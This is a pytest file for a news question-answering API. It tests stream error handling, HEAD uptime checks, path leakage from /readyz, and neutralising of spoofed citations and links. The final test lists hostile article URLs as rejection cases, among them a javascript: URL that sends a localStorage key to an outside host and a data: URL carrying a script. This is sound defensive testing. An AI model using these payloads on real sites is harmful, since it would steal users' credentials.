"""Probe findings that are not a single bad request: unexpected errors inside a stream, HEAD for uptime checks,
what the unauthenticated /readyz may reveal (see ../shared/reviews/reliability_probe.md: M3, L10, L11)."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from api.http.app import create_app
from ingest.engine import Engine
from rag.answer import AnswerEvent
from rag.settings import Settings
from tests.api.http.conftest import FLAGSHIP

USER = {"role": "user", "content": FLAGSHIP}


@pytest.fixture
def broken_stream(seeded_engine: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    """The engine's stream sends its sources, then fails with an error that is not a NewsqaError."""

    def stream(question: str, **_: object) -> Iterator[AnswerEvent]:
        yield AnswerEvent("sources", passages=[])
        raise TypeError("unhashable surprise")

    monkeypatch.setattr(seeded_engine, "stream", stream)


@pytest.mark.usefixtures("broken_stream")
def test_any_error_mid_stream_ends_the_chat_stream_with_an_error_event(client: TestClient) -> None:
    with client.stream("POST", "/v1/chat", json={"messages": [USER], "stream": True}) as stream:
        body = stream.read().decode()
    assert stream.status_code == 200
    assert body.index("event: sources") < body.index("event: error")
    assert "internal error (TypeError); the server log has details" in body
    assert "unhashable surprise" not in body  # the detail goes to the log, not to the client


@pytest.mark.usefixtures("broken_stream")
def test_any_error_mid_stream_ends_the_openai_stream_with_an_error_chunk(client: TestClient) -> None:
    request = {"model": "newsqa", "messages": [USER], "stream": True}
    with client.stream("POST", "/v1/chat/completions", json=request) as stream:
        body = stream.read().decode()
    assert stream.status_code == 200
    assert '"error": {"type": "server_error", "message": "internal error (TypeError)' in body
    assert body.endswith("data: [DONE]\n\n")


def test_head_answers_like_get_for_uptime_checks(client: TestClient) -> None:
    for path in ("/", "/healthz"):
        head = client.head(path)
        assert head.status_code == 200, path
        assert head.content == b""


def test_readyz_does_not_show_the_data_directory_path(tmp_path: Path, seeded_engine: Engine) -> None:
    data_dir = tmp_path / "secret-place" / "data"
    data_dir.parent.mkdir()
    data_dir.write_text("a file where the data directory should be")
    settings = Settings(data_dir=data_dir)
    with TestClient(create_app(settings, Engine(settings, embedder=seeded_engine.embedder))) as client:
        ready = client.get("/readyz")
    assert ready.status_code == 503
    detail = ready.json()["detail"]
    assert "secret-place" not in detail and str(tmp_path) not in detail
    assert "$NEWSQA_DATA_DIR" in detail


SPOOF = (
    "The Zorblax toaster was designed by Mara Quill in Oslo [3][12]. "
    "The Zorblax toaster uses entangled crumbs [1](https://evil.example) to brown bread evenly. "
    "Critics said the Zorblax toaster costs far too much for a kitchen appliance of its kind."
)


def test_article_text_cannot_pose_as_citations_or_links(client: TestClient) -> None:
    """Probe M5: fake markers and markdown links in an article reach users as plain text; offsets stay verbatim."""
    posted = client.post("/v1/articles", json={"text": SPOOF, "title": "Zorblax", "url": "https://news.example/z"})
    assert posted.status_code == 201, posted.text
    stored = client.get(f"/v1/articles/{posted.json()['id']}").json()["text"]
    answer = client.post("/v1/ask", json={"question": "Who designed the Zorblax toaster?"}).json()
    assert answer["citations"], answer
    for c in answer["citations"]:
        assert "[" not in c["quote"] and "](" not in c["quote"], c["quote"]
    assert "Oslo (3)(12)." in answer["answer"] and "[12]" not in answer["answer"]
    assert "](" not in answer["answer"]
    quoted = next(c for c in answer["citations"] if "Oslo" in c["quote"])
    assert stored[quoted["start"] : quoted["end"]].endswith("Oslo [3][12].")  # verbatim in the store
    assert quoted["quote"].endswith("Oslo (3)(12).")  # neutralised as sent
    openai = client.post(
        "/v1/chat/completions",
        json={"model": "newsqa", "messages": [{"role": "user", "content": "What do Zorblax toasters use?"}]},
    ).json()
    content = openai["choices"][0]["message"]["content"]
    assert "entangled crumbs (1)(https://evil.example)" in content and "](https://evil" not in content


def test_article_urls_are_http_only_and_without_credentials(client: TestClient) -> None:
    """Probe M6 and L8: a javascript: url was stored and became a link; credentials were stored and shown."""
    for url, words in (
        ("javascript:fetch('http://sink/?k='+localStorage.getItem('newsqa-key'))", "http:// or https://"),
        ("data:text/html,<script>alert(1)</script>", "http:// or https://"),
        ("https://user:secretpw@news.example/a", "user name or password"),
    ):
        response = client.post("/v1/articles", json={"text": SPOOF, "url": url})
        assert response.status_code == 422, url
        assert words in response.json()["error"]["message"] and "secretpw" not in response.text
